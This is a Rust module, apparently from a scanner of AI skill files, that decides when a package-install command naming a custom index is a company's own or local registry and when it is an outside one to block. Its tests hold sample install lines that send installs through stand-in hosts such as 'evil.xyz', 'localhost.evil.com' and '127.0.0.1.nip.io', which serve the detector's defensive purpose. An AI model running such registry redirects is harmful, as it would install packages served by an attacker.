//! A company's own package index, documented as such (lure73's benign
//! look-alike: `pip install --index-url
//! https://pypi.internal.acme-corp.com/simple acme-data-tools` under "our
//! company hosts private packages on its own index"). An install from an
//! index the skill chose blocks (`install-from-url`, `registry-redirect`):
//! a stranger's index serves whatever its owner likes. A host that names
//! itself internal (a label `internal`, `intranet`, `corp`, a private
//! network's address or top-level domain) in a text that says its index
//! is the company's own is the reader's employer's, which only the
//! reader can reach; it warns.
//!
//! tune81: a registry on the developer's own machine or private network
//! (`npm config set registry http://localhost:4873/`, Verdaccio on
//! `verdaccio.local`, devpi on `devpi.internal`, a `192.168.…` mirror)
//! serves what the developer published there, so it warns with no text
//! needed (`on_this_network`). Only the host decides: a public host over
//! plain HTTP, `localhost.evil.com` or `127.0.0.1.nip.io` stay blocked.

use std::sync::LazyLock;

use regex::Regex;

use crate::lines::Lines;
use crate::urlhost::{host_of, registrable, reroutes};

static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bhttps?://(\S+)").expect("URL regex"));

/// The text's own words for a private index of its organisation.
static DOCUMENTED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:internal|private|company(?:'s)?|corporate|intranet|in-house|(?:our|its|their)\s+own)\s+(?:[\w-]+\s+){0,2}?(?:index|registry|mirror|artifactory|nexus|package\s+(?:index|server|feed))\b")
        .expect("documented regex")
});

/// The fewest packages of its own a company's skill names (`acme-core`,
/// `acme-auth`) for its name to stand for the company.
const FEWEST_OWN_PACKAGES: usize = 2;

/// code88: whether every URL on `line` is on a site named as the company
/// is (`pypi.acme.example`, blind87c's `internal-sdk-release` twin),
/// where `skill_md` calls the index the company's own and names at least
/// `FEWEST_OWN_PACKAGES` packages of that company (`acme-core`,
/// `acme-auth`). A look-alike named otherwise (`acme-internal.example`
/// beside packages `acme-…`), or a skill naming no such packages, stays
/// blocked.
pub fn named_for_company(line: &str, skill_md: &str) -> bool {
    !reroutes(line)
        && every_host(line, |host| {
            let site = registrable(host);
            let company = site.split('.').next().unwrap_or_default();
            company.len() >= 3 && own_packages(skill_md, company) >= FEWEST_OWN_PACKAGES
        })
        && DOCUMENTED.is_match(skill_md)
}

/// How many distinct names `company-…` (`acme-core`) `text` holds as
/// whole words.
fn own_packages(text: &str, company: &str) -> usize {
    let word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let lower = text.to_ascii_lowercase();
    let prefix = format!("{company}-");
    let mut names: Vec<&str> = lower
        .match_indices(&prefix)
        .filter(|(at, _)| !lower[..*at].ends_with(word) && !lower[..*at].ends_with('-'))
        .map(|(at, _)| {
            let rest = &lower[at + prefix.len()..];
            &rest[..rest.find(|c: char| !word(c)).unwrap_or(rest.len())]
        })
        .filter(|suffix| !suffix.is_empty())
        .collect();
    names.sort_unstable();
    names.dedup();
    names.len()
}

/// Labels and top-level domains a host names itself internal by.
const INTERNAL_LABELS: &[&str] = &["internal", "intranet", "corp", "intra", "lan", "local"];

/// Whether every URL on `line` is a host named internal, and the text
/// calls its index its organisation's own.
pub fn documented_internal(lines: &Lines, line: usize) -> bool {
    every_host(lines.get(line), internal) && lines.all().any(|text| DOCUMENTED.is_match(text))
}

/// Whether `text` holds a URL and every URL's host, lower-cased, is one
/// `kind` takes.
fn every_host(text: &str, kind: impl Fn(&str) -> bool) -> bool {
    let mut hosts = URL
        .captures_iter(text)
        .map(|url| host_of(url.get(1).map_or("", |m| m.as_str())).to_ascii_lowercase())
        .peekable();
    hosts.peek().is_some() && hosts.all(|host| kind(&host))
}

/// A host on a private network: a private IPv4 address, or a name with
/// an internal label below its registrable part or as its top level.
fn internal(host: &str) -> bool {
    let octets: Vec<u8> = host.split('.').filter_map(|o| o.parse().ok()).collect();
    if octets.len() == 4 {
        return matches!(octets[..], [10, ..] | [192, 168, ..])
            || octets[0] == 172 && (16..32).contains(&octets[1]);
    }
    let labels: Vec<&str> = host.split('.').collect();
    labels.len() >= 2
        && labels.iter().enumerate().any(|(at, label)| {
            INTERNAL_LABELS.contains(label) && (at + 2 < labels.len() || at + 1 == labels.len())
        })
}

/// Top-level names no public registry can be under: mDNS's `.local`,
/// the reserved `.internal`, `.localhost`, home routers' `.lan` and
/// `.home.arpa`.
const LOCAL_TOP_LEVELS: &[&str] = &["local", "internal", "localhost", "lan", "home.arpa"];

/// Whether every URL on `line` is on this machine or its private network
/// and nothing on the line routes the request elsewhere.
pub fn on_this_network(lines: &Lines, line: usize) -> bool {
    let text = lines.get(line);
    !reroutes(text) && every_host(text, local)
}

/// `localhost`, a loopback or private address (IPv4, IPv6's `::1` and
/// `fc00::/7`), or a name under a local top level.
fn local(host: &str) -> bool {
    if let Ok(v4) = host.parse::<std::net::Ipv4Addr>() {
        return v4.is_loopback() || v4.is_private();
    }
    if let Ok(v6) = host.parse::<std::net::Ipv6Addr>() {
        return v6.is_loopback() || (v6.segments()[0] & 0xfe00) == 0xfc00;
    }
    host == "localhost"
        || LOCAL_TOP_LEVELS.iter().any(|top| {
            host.strip_suffix(top)
                .is_some_and(|name| name.len() > 1 && name.ends_with('.'))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judge(text: &str, line: usize) -> bool {
        documented_internal(&Lines::new(text), line)
    }

    #[test]
    fn a_documented_internal_host_is_the_companys() {
        let text = "Our company hosts private packages on its own index.\npip install --index-url https://pypi.internal.acme-corp.com/simple acme-tools\n";
        assert!(judge(text, 1));
        let text =
            "Use the internal package index:\npip install -i http://10.0.4.2:8080/simple tools\n";
        assert!(judge(text, 1));
        let text = "Our private registry:\nnpm install --registry https://npm.build.corp acme-ui\n";
        assert!(judge(text, 1));
    }

    #[test]
    fn a_registry_on_this_machine_or_network_is_the_developers() {
        for spared in [
            "npm config set registry http://verdaccio.local:4873/",
            "npm config set registry http://localhost:4873",
            "yarn config set registry http://127.0.0.1:4873/",
            "pnpm config set registry http://[::1]:4873/",
            "pip install --index-url http://devpi.internal:3141/root/dev/+simple/ x",
            "pip install -i http://192.168.1.20:8080/simple x",
            "registry=http://nexus.home.arpa/repository/npm/",
        ] {
            assert!(on_this_network(&Lines::new(spared), 0), "{spared}");
        }
        for kept in [
            "npm config set registry http://localhost.evil.com:4873/",
            "npm config set registry http://127.0.0.1.nip.io/",
            "npm config set registry http://registry.example.com/",
            "pip install -i http://45.1.2.3/simple x",
            "pip install -i http://localhost:3141/simple --extra-index-url https://evil.xyz/simple x",
            "pip install --proxy http://evil.xyz:8080 -i http://localhost:3141/simple x",
            "npm config set registry http://internal/",
            "npm config set registry http://local.example/",
        ] {
            assert!(!on_this_network(&Lines::new(kept), 0), "{kept}");
        }
    }

    #[test]
    fn a_site_named_as_the_companys_packages_is_its_index() {
        let skill =
            "The packages `acme-core` and `acme-auth` are published to the company index only.\n";
        let line = "url = \"https://pypi.acme.example/simple\"";
        assert!(named_for_company(line, skill));
        // A look-alike site, one package only, no word that the index is
        // the company's, a second host on the line.
        assert!(!named_for_company(
            "url = \"https://pypi.acme-internal.example/simple\"",
            skill
        ));
        assert!(!named_for_company(
            line,
            "The package `acme-core` is published to the company index only.\n"
        ));
        assert!(!named_for_company(
            line,
            "The packages `acme-core` and `acme-auth` are on PyPI.\n"
        ));
        assert!(!named_for_company(
            "pip install -i https://pypi.acme.example/simple --extra-index-url https://evil.example/simple x",
            skill
        ));
    }

    #[test]
    fn an_undocumented_or_outside_host_is_not() {
        // Nothing says the index is the company's own.
        assert!(!judge(
            "pip install -i https://pypi.internal.acme.com/simple x\n",
            0
        ));
        // A word `internal` in the registrable part is anyone's domain.
        let said = "Our internal index:\n";
        assert!(!judge(
            &format!("{said}pip install -i https://pypi.internal.xyz/simple x\n"),
            1
        ));
        assert!(!judge(
            &format!("{said}pip install -i https://pypi-internal.xyz/simple x\n"),
            1
        ));
        assert!(!judge(
            &format!("{said}pip install -i https://45.1.2.3/simple x\n"),
            1
        ));
        // Every URL must be internal.
        assert!(!judge(
            &format!(
                "{said}pip install -i https://pypi.internal.acme.com/simple --extra-index-url https://evil.xyz/simple x\n"
            ),
            1
        ));
    }
}
